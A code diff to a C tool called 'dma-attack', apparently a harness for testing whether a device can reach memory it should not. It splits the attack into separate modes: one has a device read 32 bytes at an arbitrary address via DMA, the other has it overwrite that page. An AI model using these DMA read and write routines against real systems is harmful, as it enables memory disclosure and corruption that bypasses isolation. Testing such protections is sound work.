@@ -165,8 +165,8 @@ static int control(void)
 	return 0;
 }
 
-/* Tries to read the target, shows what the device got, then tries to overwrite it. */
-static int attack(uint64_t target)
+/* Lets the device read the target, and shows what it got. */
+static int attack_read(uint64_t target)
 {
 	uint64_t from_address, to_address;
 	uint8_t *from = own_page(&from_address), *to = own_page(&to_address);
@@ -180,18 +180,27 @@ static int attack(uint64_t target)
 	for (int i = 0; i < 32; i++)
 		printf("%02x", to[i]);
 	printf("\n");
+	return 0;
+}
+
+/* Lets the device overwrite the target. */
+static int attack_write(uint64_t target)
+{
+	uint64_t from_address;
+	uint8_t *from = own_page(&from_address);
 
 	memset(from, 0xa5, PAGE);
 	transfer(from_address, 0);
 	transfer(target, 1);
+	printf("DMA-WROTE %#llx\n", (unsigned long long)target);
 	return 0;
 }
 
 int main(int argc, char **argv)
 {
-	if (argc < 3 || (strcmp(argv[1], "--attack") == 0) != (argc == 4)) {
+	if (argc < 3 || argc > 4) {
 		fprintf(stderr, "usage: dma-attack --probe|--control DEVICE\n"
-				"       dma-attack --attack DEVICE ADDRESS\n");
+				"       dma-attack --read|--write DEVICE ADDRESS\n");
 		return 2;
 	}
 	open_device(argv[2]);
@@ -199,7 +208,9 @@ int main(int argc, char **argv)
 		return 1;
 	if (strcmp(argv[1], "--control") == 0)
 		return control();
-	if (strcmp(argv[1], "--attack") == 0)
-		return attack(strtoull(argv[3], NULL, 0));
+	if (argc == 4 && strcmp(argv[1], "--read") == 0)
+		return attack_read(strtoull(argv[3], NULL, 0));
+	if (argc == 4 && strcmp(argv[1], "--write") == 0)
+		return attack_write(strtoull(argv[3], NULL, 0));
 	return 0;
 }
